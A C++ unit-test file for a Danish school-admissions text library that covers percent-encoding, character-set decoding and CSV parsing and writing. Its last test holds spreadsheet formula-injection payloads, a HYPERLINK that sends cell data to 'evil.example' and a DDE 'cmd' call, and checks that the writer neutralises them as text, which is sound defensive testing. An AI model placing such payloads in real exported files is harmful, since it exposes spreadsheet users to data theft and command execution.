// Encodings and CSV: UTF-8 with and without BOM, Windows-1252, binary garbage; quoting, both
// delimiters, line ends, and a round trip through the writer.
#include <gtest/gtest.h>

#include "text/csv.h"
#include "text/encoding.h"
#include "text/percent_encoding.h"

namespace optagelse::text {
namespace {

TEST(PercentEncoding, DanishFileNamesRoundTrip) {
  EXPECT_EQ(PercentEncode("L\xc3\xa6geerkl\xc3\xa6ring 2027.pdf"), "L%C3%A6geerkl%C3%A6ring%202027.pdf");
  EXPECT_EQ(*PercentDecode("L%C3%A6geerkl%c3%a6ring%202027.pdf"), "L\xc3\xa6geerkl\xc3\xa6ring 2027.pdf");
  EXPECT_EQ(*PercentDecode(PercentEncode(std::string("a\0b\r\n%", 6))), std::string("a\0b\r\n%", 6));
  EXPECT_EQ(*PercentDecode("plain-name_1.png"), "plain-name_1.png");
}

TEST(PercentEncoding, ABrokenEscapeIsRefused) {
  EXPECT_FALSE(PercentDecode("50%").has_value());
  EXPECT_FALSE(PercentDecode("50%4").has_value());
  EXPECT_FALSE(PercentDecode("%G1").has_value());
}

TEST(Encoding, Utf8PassesThroughAndLosesItsBom) {
  EXPECT_EQ(*DecodeToUtf8("S\xc3\xb8ren", Encoding::kDetect), "S\xc3\xb8ren");
  EXPECT_EQ(*DecodeToUtf8("\xEF\xBB\xBF" "\xc3\x86r\xc3\xb8", Encoding::kDetect), "\xc3\x86r\xc3\xb8");
}

TEST(Encoding, Windows1252IsDecoded) {
  // "Søren Ærø" and the euro sign, as Windows-1252 bytes.
  EXPECT_EQ(*DecodeToUtf8("S\xf8ren \xc6r\xf8 \x80", Encoding::kDetect), "S\xc3\xb8ren \xc3\x86r\xc3\xb8 \xe2\x82\xac");
  EXPECT_EQ(*DecodeToUtf8("\xe5", Encoding::kWindows1252), "\xc3\xa5");
}

TEST(Encoding, GarbageIsRefusedWithACode) {
  EXPECT_EQ(DecodeToUtf8(std::string("ab\0cd", 5), Encoding::kDetect).error().code, ErrorCode::kInvalidEncoding);
  EXPECT_EQ(DecodeToUtf8("\x81\x8d", Encoding::kDetect).error().code, ErrorCode::kInvalidEncoding);
  EXPECT_EQ(DecodeToUtf8("S\xf8ren", Encoding::kUtf8).error().code, ErrorCode::kInvalidEncoding);
  std::string noise;
  for (int i = 0; i < 100000; ++i) noise += static_cast<char>((i * 7919 + 13) % 256);
  EXPECT_FALSE(DecodeToUtf8(noise, Encoding::kDetect).has_value());
}

TEST(Encoding, Utf8ValidatorRejectsOverlongsSurrogatesAndTruncation) {
  EXPECT_TRUE(IsValidUtf8("a\xc3\xa6\xe2\x82\xac\xf0\x9f\x98\x80"));
  EXPECT_FALSE(IsValidUtf8("\xc0\xaf"));          // overlong '/'
  EXPECT_FALSE(IsValidUtf8("\xed\xa0\x80"));      // surrogate
  EXPECT_FALSE(IsValidUtf8("\xe2\x82"));          // truncated
  EXPECT_FALSE(IsValidUtf8("\xf4\x90\x80\x80"));  // beyond U+10FFFF
}

TEST(Csv, DetectsSemicolonAndComma) {
  auto semicolon = ParseCsv("a;b\r\n1;2\r\n");
  ASSERT_TRUE(semicolon.has_value());
  EXPECT_EQ(semicolon->delimiter, ';');
  EXPECT_EQ(semicolon->rows.at(0).fields, (std::vector<std::string>{"1", "2"}));
  auto comma = ParseCsv("a,b\n1,2\n3,4");
  ASSERT_TRUE(comma.has_value());
  EXPECT_EQ(comma->delimiter, ',');
  ASSERT_EQ(comma->rows.size(), 2u);
  EXPECT_EQ(comma->rows[1].line, 3);
}

TEST(Csv, QuotesEscapesAndNewlinesInsideFields) {
  auto table = ParseCsv("navn;klasse\n\"Hansen; Ida\";\"9.\"\"B\"\"\"\n\"To\nlinjer\";9.A\n\nsidste;8.C\n");
  ASSERT_TRUE(table.has_value());
  ASSERT_EQ(table->rows.size(), 3u);
  EXPECT_EQ(table->rows[0].fields, (std::vector<std::string>{"Hansen; Ida", "9.\"B\""}));
  EXPECT_EQ(table->rows[1].fields[0], "To\nlinjer");
  EXPECT_EQ(table->rows[2].line, 6);
}

TEST(Csv, BrokenFilesAreProblems) {
  EXPECT_EQ(ParseCsv("").error().code, ErrorCode::kEmptyFile);
  EXPECT_EQ(ParseCsv(" \r\n \n").error().code, ErrorCode::kEmptyFile);
  const auto unterminated = ParseCsv("a;b\n1;\"open\n2;3\n");
  ASSERT_FALSE(unterminated.has_value());
  EXPECT_EQ(unterminated.error().code, ErrorCode::kCsvUnterminatedQuote);
  EXPECT_EQ(unterminated.error().detail, "2");
}

TEST(Csv, WriterRoundTrips) {
  const std::vector<std::vector<std::string>> rows = {
      {"cpr", "navn"}, {"0101900002", "Ærø; \"Øen\""}, {"x", "to\r\nlinjer"}, {"", ""}};
  for (const char delimiter : {';', ','}) {
    std::string text;
    for (const auto& row : rows) text += CsvLine(row, delimiter);
    auto table = ParseCsv(text);
    ASSERT_TRUE(table.has_value());
    EXPECT_EQ(table->header, rows[0]);
    ASSERT_EQ(table->rows.size(), 2u);  // the all-blank row is skipped
    EXPECT_EQ(table->rows[0].fields, rows[1]);
    EXPECT_EQ(table->rows[1].fields, rows[2]);
  }
}

TEST(Csv, AFieldASpreadsheetWouldRunAsAFormulaIsWrittenAsText) {
  // Names a school's admin system may hold, written into pupils.csv: each must open as text.
  EXPECT_EQ(CsvLine({"=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Klik\")"}, ';'),
            "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"Klik\"\")\"\r\n");
  EXPECT_EQ(CsvLine({"+cmd|' /C calc'!A0", "@SUM(A1)", "-2+3", "\tx", "\rx"}, ','),
            "'+cmd|' /C calc'!A0,'@SUM(A1),'-2+3,'\tx,\"'\rx\"\r\n");
  // Numbers stay numbers, and text that merely contains those characters stays as it is.
  EXPECT_EQ(CsvLine({"-3", "4.5", "2,0", "Anne-Marie", "a=b", "-"}, ';'), "-3;4.5;2,0;Anne-Marie;a=b;'-\r\n");
  auto table = ParseCsv(CsvLine({"navn"}, ';') + CsvLine({"=1+1"}, ';'));
  ASSERT_TRUE(table);
  EXPECT_EQ(table->rows[0].fields[0], "'=1+1");
}

}  // namespace
}  // namespace optagelse::text
